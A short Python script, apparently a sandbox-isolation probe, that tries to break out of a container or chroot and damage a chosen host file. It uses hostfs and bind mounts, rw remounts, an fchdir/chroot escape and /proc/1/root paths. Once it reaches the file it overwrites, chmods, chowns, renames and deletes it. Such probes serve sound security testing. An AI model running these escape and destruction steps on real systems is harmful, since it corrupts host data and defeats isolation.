"""Changes a file of the host's in every way that root has, by every route to it."""

import os
import subprocess
import sys

path = sys.argv[1]


def attempt(act, *words):
    try:
        act(*words)
    except OSError:
        pass


def spoil(at):
    for flags in (os.O_WRONLY | os.O_TRUNC, os.O_WRONLY | os.O_APPEND):
        attempt(lambda: os.write(os.open(at, flags), b"spoilt"))
    if "modes" in sys.argv:
        attempt(os.chmod, at, 0o777)
        attempt(os.utime, at, (1, 1))
    attempt(os.chown, at, 1, 1)
    attempt(os.link, at, at + ".linked")
    attempt(os.rename, at, at + ".renamed")
    attempt(os.unlink, at)
    attempt(lambda: os.mkdir(os.path.dirname(at) + "/made"))
    attempt(lambda: os.mknod(os.path.dirname(at) + "/pipe", 0o10644))


os.makedirs("/mnt/attack", exist_ok=True)
for command in (
    ["mount", "-t", "hostfs", "-o", "/", "none", "/mnt/attack"],
    ["mount", "--bind", "/", "/mnt/attack"],
    ["mount", "-o", "remount,rw", "/"],
    ["mount", "-o", "remount,rw,bind", os.path.dirname(path)],
):
    subprocess.run(command, capture_output=True)
    spoil("/mnt/attack" + path)

# Out of what may be written, by what is above it.
work = os.open(".", os.O_RDONLY | os.O_DIRECTORY)
os.fchdir(work)
spoil("../home/" + os.path.basename(path))
attempt(os.chroot, ".")
for _ in range(20):
    attempt(os.chdir, "..")
spoil("." + path)
for process in ["self", "1"]:
    for route in ["root", "cwd"]:
        spoil(f"/proc/{process}/{route}{path}")
spoil(path)
print("tried everything")
